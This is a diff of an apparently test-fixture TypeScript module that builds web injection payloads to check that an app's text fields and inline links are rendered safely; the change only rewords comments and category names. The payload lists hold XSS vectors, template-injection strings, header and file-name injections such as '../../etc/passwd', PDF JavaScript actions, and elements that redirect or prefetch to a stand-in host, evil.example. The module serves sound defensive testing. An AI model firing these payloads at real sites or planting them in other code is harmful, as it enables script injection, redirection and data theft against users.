@@ -4,29 +4,27 @@ import { itemToDocument } from "~/domain/items/document";
 import { limits } from "~/domain/limits";
 
 /**
- * Texts that try to become more than text: each would open a dialog and leave a mark, ask another host, or add an
- * element or attribute. Each is made for one context: WHATWG HTML's parser and its differences to XML, our inline
- * links, i18next, JSON, CSS, headers, addresses. None is longer than a name may be, none holds half a character.
+ * Injection payloads. If one works, it opens a dialog and sets a marker, requests another host, or adds an element or
+ * attribute. Each is made for one context: HTML and its differences to XML, inline links, i18next, JSON, CSS, headers,
+ * URLs. Each is well-formed and fits a name.
  */
 export interface Payload {
   text: string;
-  /** what is read of it where inline links are links */
+  /** its text where inline links are rendered */
   shown: string;
-  /** words of the same shape: with the same line breaks, and a link where the payload rightly is one */
+  /** harmless text with the same line breaks and links */
   harmless: string;
 }
 
-/** Whether a record holds harmless words or payloads. */
+/** Whether a record contains harmless text or payloads. */
 export type PayloadVariant = "harmless" | "text";
 
-/** What the payloads do where they get through: a dialog, and a mark on the window. */
+/** Opens a dialog and sets a marker. */
 const payloadScript = "alert(__hit=1)";
 const image = `<img src=x onerror=${payloadScript}>`;
 const script = `<script>${payloadScript}</script>`;
-/** The host that some ask. */
 const attackerHost = "evil.example";
 
-/** By what they are, or what they get out of; a row holds one kind. */
 const families: Record<string, readonly string[]> = {
   scripts: [
     ...[
@@ -54,7 +52,7 @@ const families: Record<string, readonly string[]> = {
     ],
     `<script type=speculationrules>{"prefetch":[{"urls":["//${attackerHost}/"]}]}</script>`,
   ],
-  "elements that run something by themselves": [
+  "elements that run scripts by themselves": [
     ...["img src=x onerror", "svg onload", "body onload", "iframe onload", "frameset onload", "style onload"],
     ...["video><source onerror", "audio src=x onloadstart", "object data=x onerror", "embed src=x onload"],
     ...["link rel=stylesheet href=x onerror", "details open ontoggle", "marquee onstart", "input autofocus onfocus"],
@@ -72,11 +70,11 @@ const families: Record<string, readonly string[]> = {
     `${quote};${payloadScript};//${quote}`,
     `x${quote}style=animation-name:x onanimationstart=${payloadScript}//`,
   ]),
-  "out of the element that they stand in": [
+  "out of the surrounding element": [
     ...["title", "textarea", "style", "script", "noscript", "xmp", "iframe", "noembed", "noframes", "option", "select"],
     ...["template", "svg", "math", "table", "a", "button", "h1", "p", "head", "body", "html", "form", "dialog"],
   ].flatMap((name) => [`</${name}>${image}`, `</${name.toUpperCase()}\t/x>${script}<${name}>`]),
-  "out of a comment, or into one": [
+  "out of or into a comment": [
     ...[
       `-->${image}`,
       `--!>${image}`,
@@ -88,7 +86,7 @@ const families: Record<string, readonly string[]> = {
     ...[`<![CDATA[${image}]]>`, `]]>${image}`, `<svg><![CDATA[><${image}]]></svg>`, `<?x ${image}?>`, `<!x>${image}`],
     ...[`</ ${image}`, `<!DOCTYPE x [<!ENTITY y "${image}">]>&y;`, `<![if IE]>${image}<![endif]>`],
   ],
-  "out of JSON in a script, and out of a script's own words": [
+  "out of JSON in a script, or out of the script": [
     ...[
       `"}</script>${script}`,
       `</script\t>${image}`,
@@ -109,7 +107,7 @@ const families: Record<string, readonly string[]> = {
     ...[`\\u003c/script\\u003e${script}`, `\\u0022};${payloadScript}//`, `{"__proto__":{"onload":"${payloadScript}"}}`],
     ...[`<!--<script>"}${image}`, `\`-${payloadScript}-\``],
   ],
-  "words of a template": [
+  "template syntax": [
     ...["{{constructor.constructor('alert(__hit=1)')()}}", "{{7*7}}", `{{- "${image}"}}`, "{{customerName}}"],
     ...["{{- name}}", "{{count}}", "{{name, uppercase}}", "{{__proto__}}", "$t(quote.greeting)", "$t(footer.heading)"],
     ...[
@@ -136,7 +134,7 @@ const families: Record<string, readonly string[]> = {
       `\\3c script\\3e ${payloadScript}`,
     ],
   ],
-  "what HTML, SVG and MathML read differently, also when what was read is written and read again": [
+  "differences between HTML, SVG and MathML, also when serialized and parsed again": [
     ...[`<svg></p><style><a id="</style>${image}">`, `<select><template>${image}`, `<table><td>${image}`],
     `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${payloadScript}&gt;">`,
     `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
@@ -157,7 +155,7 @@ const families: Record<string, readonly string[]> = {
       `<template shadowrootmode=open>${image}</template>`,
     ],
   ],
-  "the same letters in other dress: entities, percent, UTF-7, overlong UTF-8, look-alikes, what is not seen": [
+  "encodings: entities, percent, UTF-7, overlong UTF-8, homoglyphs, invisible characters": [
     ...["&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;", "&#x3c;script>"],
     ...["&#0000060script>", "&#60script&#62", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E"],
     ...["%u003Cscript%u003E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)"],
@@ -178,13 +176,13 @@ const families: Record<string, readonly string[]> = {
     ...[`\ufffd${image}\uffff`, "\u{1f334}<\u{10ffff}>", "a\u0300\u0301\u0302<b>", "&", "&#0;", "&#xd800;", "&lt"],
     ...["<", ">", "<>", "</>", "&nbsp;<b>", "\ud7ff<i>"],
   ],
-  "out of a header or the name of a file, and out of a text in a PDF": [
+  "out of a header, a file name or a PDF string": [
     ...["x\r\nSet-Cookie: hit=1", "x\nLocation: //evil.example", "x\rX-Hit: 1", `x\r\n\r\n${script}`],
     ...["x%0d%0aSet-Cookie:%20hit=1", `.html"; filename*=UTF-8''x.html`, "../../etc/passwd", "..\\..\\x.exe"],
     ...["x.pdf\0.html", "CON", "x; filename=y.html", "\u2028x: y", "\\)>>endobj", "endstream endobj xref"],
     ...[")/OpenAction<</S/JavaScript/JS(app.alert(1))>>(", "]/AA<</O<</S/Launch>>>>["],
   ],
-  "elements without a script that lead elsewhere, send something away, or take the name of something of ours": [
+  "elements without scripts that redirect, exfiltrate or clobber names": [
     ...[
       `<base href=//${attackerHost}/>`,
       `<meta http-equiv=refresh content="0;url=//${attackerHost}">`,
@@ -209,7 +207,7 @@ const families: Record<string, readonly string[]> = {
     ...["<form id=language><input name=close>", "<a id=__remixContext href=x:y>", "<p data-island=strip>"],
     ...[`<dialog open>${image}</dialog>`, "<p popover id=menu>", "<h1>Another heading</h1>"],
   ],
-  "addresses that nobody should be led to by a press": [
+  "dangerous link targets": [
     ...[
       `javascript:${payloadScript}`,
       `javascript://${attackerHost}/%0a${payloadScript}`,
@@ -263,7 +261,7 @@ const families: Record<string, readonly string[]> = {
   ].flatMap((address) => [address, `#[press|${address}]`, `<a href="${address}">press</a>`]),
 };
 
-/** Inline links, whose labels and addresses try to be more than that. */
+/** Inline links with hostile labels and addresses. */
 const links = [
   ...[
     `${image}|/tours`,
@@ -291,7 +289,7 @@ const links = [
   "x|mailto:a@b?subject=&body=%0d%0aBcc:c",
 ];
 
-/** All of them, their line breaks as they are stored. */
+/** All payloads, with stored line breaks. */
 export const payloads: readonly Payload[] = [
   ...Object.values(families)
     .flat()
@@ -304,14 +302,14 @@ export const payloads: readonly Payload[] = [
   })),
 ];
 
-/** Gives a line of the same shape: a word, as many addresses, and an unfinished link where the line has one. */
+/** Returns a harmless line with as many addresses and unfinished links. */
 function harmlessWordsLike(line: string): string {
   const addresses = parseInlineLinks(line).filter((part) => typeof part !== "string");
   const words = ["Word", ...addresses.map(() => "https://word.example")];
   return [...words, ...(findUnfinishedLink(line) === null ? [] : ["#[Word|word:]"])].join(" ");
 }
 
-/** Payloads behind one another, each whole, in as few texts as have room for them in `length` characters each. */
+/** Joins payloads into as few texts as possible of `length` characters at most. */
 export function packPayloads(length: number, between = " "): Payload[] {
   const packs: Payload[] = [];
   for (const each of payloads) {
@@ -323,21 +321,21 @@ export function packPayloads(length: number, between = " "): Payload[] {
   return packs;
 }
 
-/** The payloads in as few names as hold them. A name can't contain NUL. */
+/** The payloads in as few names as possible. A name can't contain NUL. */
 export const payloadNames = packPayloads(limits.name).map(({ text, shown, harmless }) => ({
   ...{ text: text.replaceAll("\0", ""), shown: shown.replaceAll("\0", "") },
   harmless: harmless.replaceAll("\0", ""),
 }));
 
-/** The payloads in one text, each on a line or more. */
+/** The payloads in one text, one per line. */
 export const allPayloads = packPayloads(limits.text, "\n")[0] ?? { text: "", shown: "", harmless: "" };
 
-/** The address of a picture with a payload in it, as far as a path on this site may have one. */
+/** Returns a picture's address with the characters of a payload that a path may contain. */
 export function pictureAddressWith(words: string): string {
   return `/images/${words.replace(/[\p{Cc}\s\\]/gu, "")}`;
 }
 
-/** A quote, shown as a tour, with a payload in each field. */
+/** Returns a displayed quote with a payload in each field. */
 export function buildQuoteWithPayload(name: Payload, way: PayloadVariant) {
   const words = name[way];
   return {
@@ -346,7 +344,7 @@ export function buildQuoteWithPayload(name: Payload, way: PayloadVariant) {
   };
 }
 
-/** A quote with all payloads in each kind of item: as texts alone, and together as far as there is room. */
+/** Returns a quote with all payloads in each type of item, as separate texts and joined. */
 export function buildQuoteWithAllPayloads(way: PayloadVariant) {
   const items: Item[] = [
     ...packPayloadsIntoItems(way),
@@ -361,7 +359,7 @@ export function buildQuoteWithAllPayloads(way: PayloadVariant) {
   };
 }
 
-/** All payloads in each kind of item, in few of them. */
+/** Returns few items with all payloads in each type. */
 export function packPayloadsIntoItems(way: PayloadVariant): Item[] {
   const titles = packPayloads(limits.shortText).map((each) => each[way]);
   return [
